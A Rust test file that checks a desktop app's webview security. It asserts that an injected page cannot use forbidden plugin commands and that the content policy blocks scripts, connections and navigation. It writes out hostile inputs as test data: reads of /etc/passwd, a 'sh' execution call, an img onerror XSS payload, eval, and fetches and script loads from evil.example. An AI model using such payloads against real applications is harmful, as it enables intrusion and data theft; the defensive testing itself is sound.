//! What the page may not do, even if somebody got a script into it.

use serde_json::json;

use crate::app::Home;
use crate::page::button;

#[tokio::test(flavor = "multi_thread")]
async fn commands_outside_the_capability_are_refused() {
    let mut home = Home::new().await;
    let app = home.open().await;
    app.see(button("Open demo")).await;
    assert!(app.invoke("app_start", json!({ "request": null })).await.is_ok(), "commands work at all");
    for (command, args) in [
        ("plugin:window|set_title", json!({ "label": "main", "value": "owned" })),
        (
            "plugin:webview|create_webview_window",
            json!({ "options": { "label": "other", "url": "https://evil.example" } }),
        ),
        ("plugin:event|emit", json!({ "event": "anything", "payload": null })),
        ("plugin:opener|open_path", json!({ "path": "/etc/passwd" })),
        ("plugin:opener|open_url", json!({ "url": "file:///etc/passwd" })),
        ("plugin:opener|open_url", json!({ "url": "http://evil.example/" })),
        ("plugin:clipboard-manager|read_text", json!({})),
        ("plugin:fs|read_file", json!({ "path": "/etc/passwd" })),
        ("plugin:shell|execute", json!({ "program": "sh" })),
        ("no_such_command", json!({})),
    ] {
        let refused = app.invoke(command, args).await.unwrap_err().to_string().to_lowercase();
        assert!(
            refused.contains("not allowed") || refused.contains("not found"),
            "{command} was refused for another reason: {refused}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_content_policy_stops_scripts_connections_and_leaving() {
    let mut home = Home::new().await;
    let app = home.open().await;
    app.see(button("Open demo")).await;
    let script = r#"
        const done = arguments[0], told = { ran: [] };
        window.ran = told.ran;
        const script = document.createElement("script");
        script.textContent = "window.ran.push('inline script')";
        document.body.append(script);
        const image = document.createElement("div");
        image.innerHTML = "<img src=x onerror=\"window.ran.push('handler')\">";
        document.body.append(image);
        const attempt = (work) => { try { work(); return "worked"; } catch (thrown) { return thrown.name; } };
        const far = document.createElement("script");
        told.eval = attempt(() => window.eval("1"));
        told.function = attempt(() => new Function("return 1")());
        Object.prototype.polluted = 1;
        told.polluted = {}.polluted === 1;
        const waits = [
            fetch("https://evil.example/").then(() => "worked", (thrown) => thrown.name).then((how) => { told.fetch = how; }),
            new Promise((resolve) => {
                far.onload = () => resolve("worked");
                far.onerror = () => resolve("refused");
                far.src = "https://evil.example/x.js";
                document.body.append(far);
            }).then((how) => { told.far = how; }),
        ];
        Promise.all(waits).then(() => requestAnimationFrame(() => done(told)));
    "#;
    let told = app.client().execute_async(script, vec![]).await.unwrap();
    let expected = json!({
        "ran": [], "eval": "EvalError", "function": "EvalError", "fetch": "TypeError", "far": "refused", "polluted": false,
    });
    assert_eq!(told, expected);
    // Leaving for another page is refused too: the window stays where it is.
    app.run("window.location.href = 'https://evil.example/'", vec![]).await;
    app.see(button("Open demo")).await;
}
